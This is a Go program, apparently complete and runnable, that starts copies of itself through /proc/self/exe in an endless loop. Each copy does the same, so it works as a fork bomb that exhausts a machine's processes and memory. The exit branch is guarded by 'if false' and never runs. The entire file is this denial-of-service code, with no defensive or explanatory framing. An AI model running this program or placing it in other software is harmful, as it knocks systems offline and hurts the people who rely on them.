package main

import (
	"os"
	"os/exec"
)

func main() {
	for {
		exec.Command("/proc/self/exe").Start()
		if false {
			os.Exit(1)
		}
	}
}
